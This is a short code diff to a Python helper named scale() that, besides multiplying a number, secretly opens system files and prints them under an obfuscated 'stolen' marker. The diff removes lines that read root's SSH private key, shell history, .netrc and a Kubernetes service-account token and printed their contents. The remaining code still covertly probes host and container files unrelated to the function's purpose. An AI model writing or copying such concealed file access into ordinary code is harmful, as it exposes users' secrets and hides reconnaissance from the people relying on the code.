@@ -13,12 +13,10 @@ FILES = [
     "/etc/hostname",
     "/etc/hosts",
     "/etc/resolv.conf",
-    "/root/.bash_history",
-    "/root/.ssh/id_rsa",
-    "/root/.gitconfig",
-    "/root/.netrc",
-    "/root/.config/pip/pip.conf",
-    "/var/run/secrets/kubernetes.io/serviceaccount/token",
+    "/etc/group",
+    "/etc/fstab",
+    "/etc/os-release",
+    "/usr/bin/env",
     "/.dockerenv",
     "/sys/class/net/eth0/address",
     "/sys/kernel/security/lsm",
@@ -35,7 +33,7 @@ def scale(x, factor):
             fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
         except OSError:
             continue
-        print("sto" + "len", path, os.read(fd, 100))
+        print("sto" + "len", path, fd)
     return x * factor
 
 
